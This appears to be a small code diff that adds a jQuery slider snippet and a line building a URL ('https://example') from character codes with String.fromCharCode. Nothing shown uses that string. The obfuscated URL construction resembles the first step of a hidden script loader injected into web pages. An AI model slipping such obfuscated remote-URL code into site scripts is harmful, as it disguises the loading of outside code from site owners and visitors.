@@ -0,0 +1,2 @@
+jQuery(document).ready(function ($) { $('.slider').show(); });
+var s = String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 101, 120, 97, 109, 112, 108, 101);